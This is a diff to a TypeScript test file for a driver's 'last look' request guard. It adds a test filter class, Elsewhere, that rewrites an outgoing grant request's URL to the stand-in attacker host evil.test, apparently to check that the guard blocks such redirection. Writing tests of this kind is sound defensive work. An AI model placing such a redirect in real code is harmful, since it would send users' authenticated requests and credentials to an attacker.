@@ -5,6 +5,8 @@ import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import * as core from "../../core/complete.ts";
 import { ErrorCode } from "../../core/index.ts";
+import type { HttpRequest } from "../../platform/contracts.ts";
+import { Filter } from "../../platform/exchange/filter.ts";
 import { type Allowed, lastLook } from "../../platform/exchange/last-look.ts";
 import { driverConfig } from "../../platform/fake/config.ts";
 import { addressProblem, isLoopback, isLoopbackHost } from "../../platform/servers/address.ts";
@@ -97,14 +99,17 @@ describe("the last look", () => {
   });
 });
 
+class Elsewhere extends Filter {
+  override send(request: HttpRequest): void {
+    super.send({ ...request, url: "https://evil.test/" });
+  }
+}
+
 describe("no way of the driver leads around it", () => {
   it("a translation that sends the grant's request elsewhere", () => {
     const platform = signsIn();
     const driver = driverOn(platform, {
-      translate: (http) => ({
-        send: (request, sink) => http.send({ ...request, url: "https://evil.test/" }, sink),
-        abort: () => http.abort(),
-      }),
+      translate: () => new Elsewhere(),
     });
     driver.start();
     platform.clock.advance(60_000);
